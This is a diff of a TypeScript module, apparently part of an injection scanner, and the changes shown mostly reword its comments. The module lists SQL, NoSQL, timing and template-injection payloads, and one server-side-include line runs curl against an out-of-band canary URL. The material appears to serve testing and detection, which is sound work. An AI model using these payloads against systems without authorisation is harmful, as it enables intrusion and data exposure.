@@ -1,4 +1,4 @@
-/** Where an injected command may leave its mark: a server that only listens, and a file that nobody else makes. */
+/** Where an injected command can leave a trace: a listening server, and a file that nothing else creates. */
 export interface Canary {
   url: string
   file: string
@@ -9,18 +9,21 @@ export interface TextVector {
   text: string
 }
 
-/** The same question once true and once false, of the same words and length, so that a search for words finds the same: whoever answers them differently has asked the database. */
+/**
+ * The same query once true and once false, with the same words and length, so that a text search returns the same: different responses mean that the
+ * database evaluated it.
+ */
 export interface VectorPair {
   yes: string
   no: string
 }
 
-/** Takes the database or the shell this many seconds; 0 takes none. */
+/** Delays the database or the shell by this many seconds; 0 for no delay. */
 export type SlowVector = (seconds: number) => string
 
-/** 1337 * 7331, which only somebody who calculates can say. */
+/** 1337 * 7331: only an evaluated expression produces it. */
 export const CALCULATED = '9801547'
-/** Joined by whoever runs it. */
+/** Concatenated only if executed. */
 export const JOINED = 'goneastray'
 
 const ENDS = ["'", "')", "'))", '"', '")', '`', '', "%'", '\\']
@@ -87,15 +90,15 @@ const OUTSIDE = ({ url }: Canary): string[] => [
   `' || (select extractvalue(1, '${url}/sql')) || '`,
   `<!--#include virtual="${url}/ssi"--><!--#exec cmd="curl ${url}/ssi"-->`,
 ]
-/** Of full-text search, which has a language of its own in each engine. */
+/** For full-text search, which has its own query language in each engine. */
 const SEARCH = ['"', 'a AND', 'NEAR(', 'a* OR *', 'subject:x', '{a b}:c', '-', '(', ':*', 'a & | b', '!!', "a' & 'b:*"]
 
-/** Families that only a database can fall for. */
+/** Families that only affect a database. */
 const OF_DATABASES = new Set(['error', 'union', 'joined', 'stacked', 'search'])
 
 export const asksDatabase = ({ family }: TextVector): boolean => OF_DATABASES.has(family)
 
-/** Texts that end a statement, a command, a template or a path, each of its family. */
+/** Texts that break out of a statement, a command, a template or a path, by family. */
 export function textVectors(canary: Canary): TextVector[] {
   const families: Record<string, string[]> = {
     error: [
@@ -126,7 +129,7 @@ const QUESTIONS: VectorPair[] = [
   { yes: '(select 1)<2', no: '(select 1)>2' },
 ]
 
-/** `or`, `and` with every way out, comments for spaces, other encodings of the quote. */
+/** `or` and `and` with every escape, comments instead of spaces, other encodings of the quote. */
 export const pairs: readonly VectorPair[] = [
   ...ENDS.flatMap((end) =>
     QUESTIONS.flatMap(({ yes, no }) => [
@@ -148,7 +151,7 @@ export const pairs: readonly VectorPair[] = [
   { yes: "';return 1==1;//", no: "';return 1!=1;//" },
 ]
 
-/** Sleeps of PostgreSQL, heavy work for SQLite, the shell and JavaScript. */
+/** Sleeps of PostgreSQL, expensive queries for SQLite, the shell and JavaScript. */
 export const slowVectors: readonly SlowVector[] = [
   (seconds) => `'; select pg_sleep(${seconds})--`,
   (seconds) => `; select pg_sleep(${seconds})--`,
@@ -173,7 +176,7 @@ function counting(seconds: number): string {
   return `with recursive n(i) as (select 1 union all select i+1 from n where i<${steps}) select count(*) from n`
 }
 
-/** What a database that takes objects for values would understand as more than a value. */
+/** Operator objects that some databases accept in place of values. */
 export const objectVectors: readonly unknown[] = [
   { $gt: '' },
   { $ne: null },
@@ -190,12 +193,12 @@ export const objectVectors: readonly unknown[] = [
   0,
 ]
 
-/** As they stand in an address, for a parameter of this name. */
+/** As written in a URL, for a parameter of this name. */
 export function queryVectors(name: string): string[] {
   return [`${name}[$ne]=x`, `${name}[$gt]=`, `${name}[$regex]=.*`, `${name}[]=a&${name}[]=b`, `${name}=a&${name}=b`]
 }
 
-/** Nothing of a field's own shape is needed for these: the same words as the local part of an address. */
+/** These do not need the field's format: the same text as the local part of an address. */
 export function asEmail(text: string): string | null {
   const local = text.replaceAll(/\s+/g, '/**/').replaceAll(/[^A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]/g, '')
   return local !== '' && local.length <= 64 ? `${local}@example.com` : null
